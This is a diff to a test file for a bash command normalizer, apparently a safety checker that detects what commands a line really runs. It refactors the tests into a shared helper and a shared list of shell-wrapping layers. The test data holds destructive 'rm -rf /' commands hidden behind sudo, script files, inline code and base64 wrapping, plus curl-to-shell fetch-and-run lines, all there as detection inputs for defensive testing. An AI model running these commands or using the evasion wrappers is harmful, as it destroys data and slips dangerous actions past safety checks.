@@ -6,6 +6,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { BashCommand, BashFacts, NormalizeContext } from '../facts.js';
+import { b64, CONTROL, FED_SHELLS, shq, STRING_SHELLS, type Layer } from '../../../test/support/shell-layers.js';
 import { normalizeBash } from './index.js';
 
 const ctx: NormalizeContext = { cwd: '/work/proj', home: '/home/dev', workspace_roots: ['/work/proj'] };
@@ -18,6 +19,13 @@ function only(f: BashFacts, name: string): BashCommand {
   const found = f.commands.filter((c) => c.name === name);
   expect(found.length, `no ${name} in ${JSON.stringify(f.commands.map((c) => c.argv))}`).toBeGreaterThan(0);
   return found[found.length - 1];
+}
+
+/** The command line runs `rm -rf /`, and the facts say through what (`via`). */
+function runsRmRoot(command: string, via: string): void {
+  const rm = only(facts(command), 'rm');
+  expect(rm.argv).toEqual(['rm', '-rf', '/']);
+  expect(rm.via).toBe(via);
 }
 
 describe('state that carries a command', () => {
@@ -123,26 +131,18 @@ describe('command lines carried by options and environment', () => {
     ['screen -dmS x rm -rf /', 'screen'],
     ['sshpass -p pw rm -rf /', 'script'],
     ["sg wheel 'rm -rf /'", 'su -c'],
-  ])('%s', (command, via) => {
-    const rm = only(facts(command), 'rm');
-    expect(rm.argv).toEqual(['rm', '-rf', '/']);
-    expect(rm.via).toBe(via);
-  });
+  ])('%s', runsRmRoot);
 });
 
 describe('files written then run', () => {
   it.each([
-    ["echo 'rm -rf /' > /tmp/x.sh; bash /tmp/x.sh", 'script_file'],
-    ["printf 'rm -rf /\\n' > x.sh && chmod +x x.sh && ./x.sh", 'script_file'],
-    ['cat > run.sh <<EOF\n#!/bin/sh\nrm -rf /\nEOF\nsh run.sh', 'script_file'],
-    ["echo 'rm -rf /' | tee a.sh >/dev/null; . ./a.sh", 'script_file'],
-    ["echo 'echo hi' > a.sh; echo 'rm -rf /' >> a.sh; source a.sh", 'script_file'],
-    ['cd /tmp && echo "rm -rf /" > y && bash y', 'script_file'],
-  ])('%s', (command, via) => {
-    const rm = only(facts(command), 'rm');
-    expect(rm.argv).toEqual(['rm', '-rf', '/']);
-    expect(rm.via).toBe(via);
-  });
+    "echo 'rm -rf /' > /tmp/x.sh; bash /tmp/x.sh",
+    "printf 'rm -rf /\\n' > x.sh && chmod +x x.sh && ./x.sh",
+    'cat > run.sh <<EOF\n#!/bin/sh\nrm -rf /\nEOF\nsh run.sh',
+    "echo 'rm -rf /' | tee a.sh >/dev/null; . ./a.sh",
+    "echo 'echo hi' > a.sh; echo 'rm -rf /' >> a.sh; source a.sh",
+    'cd /tmp && echo "rm -rf /" > y && bash y',
+  ])('%s', (command) => runsRmRoot(command, 'script_file'));
 
   it('a written python file run by python', () => {
     const f = facts("cat > p.py <<'EOF'\nimport os\nos.system('id')\nEOF\npython3 p.py");
@@ -194,11 +194,7 @@ describe('inline code', () => {
     ['python3 -c \'import subprocess; subprocess.run(["rm", "-rf", "/"])\''],
     ["node -e \"require('child_process').spawn('rm', ['-rf', '/'])\""],
     ["python3 -c \"import os; os.execvp('rm', ['-rf', '/'])\""],
-  ])('%s runs a shell command', (command) => {
-    const rm = only(facts(command), 'rm');
-    expect(rm.argv).toEqual(['rm', '-rf', '/']);
-    expect(rm.via).toBe('inline_code');
-  });
+  ])('%s runs a shell command', (command) => runsRmRoot(command, 'inline_code'));
 
   it('code read from a pipe', () => {
     const code = only(facts("echo 'import socket' | python3"), 'python3').inline_code;
@@ -227,22 +223,11 @@ describe('documented examples', () => {
     expect(f.flows).toContainEqual({ from: only(f, 'curl').id, to: only(f, 'bash').id, kind: 'here_string' });
     expect(f.signals).toContain('fetch_to_shell');
   });
-
-  it('tee into >(sh)', () => {
-    expect(facts('curl -s http://x.io/a | tee >(sh) > /dev/null').signals).toContain('fetch_to_shell');
-  });
-
-  it('bash < <(curl …)', () => {
-    const f = facts('bash < <(curl -s http://x.io/a)');
-    expect(f.signals).toContain('fetch_to_shell');
-  });
 });
 
 describe('composed evasions fail closed', () => {
-  const shq = (text: string): string => `'${text.replace(/'/g, `'\\''`)}'`;
-  const b64 = (text: string): string => Buffer.from(text).toString('base64');
   /** Each layer wraps a command line into another that runs it. */
-  const layers: Array<(inner: string) => string> = [
+  const layers: Layer[] = [
     (x) => `sudo ${x}`,
     (x) => `env A=1 ${x}`,
     (x) => `nice -n 5 ${x}`,
@@ -250,20 +235,10 @@ describe('composed evasions fail closed', () => {
     (x) => `nohup ${x}`,
     (x) => `command ${x}`,
     (x) => `exec ${x}`,
-    (x) => `bash -c ${shq(x)}`,
-    (x) => `sh -c ${shq(x)}`,
-    (x) => `eval ${shq(x)}`,
+    ...STRING_SHELLS,
     (x) => `echo ${shq(x)} | sh`,
-    (x) => `bash <<< ${shq(x)}`,
-    (x) => `echo ${b64(x)} | base64 -d | bash`,
-    (x) => `true && ${x}`,
-    (x) => `false || ${x}`,
-    (x) => `(${x})`,
-    (x) => `{ ${x}; }`,
-    (x) => `if true; then ${x}; fi`,
-    (x) => `for i in 1; do ${x}; done`,
-    (x) => `f() { ${x}; }; f`,
-    (x) => `echo $(${x})`,
+    ...FED_SHELLS,
+    ...CONTROL,
     (x) => `: <(${x})`,
     (x) => `ssh host ${shq(x)}`,
     (x) => `su -c ${shq(x)}`,
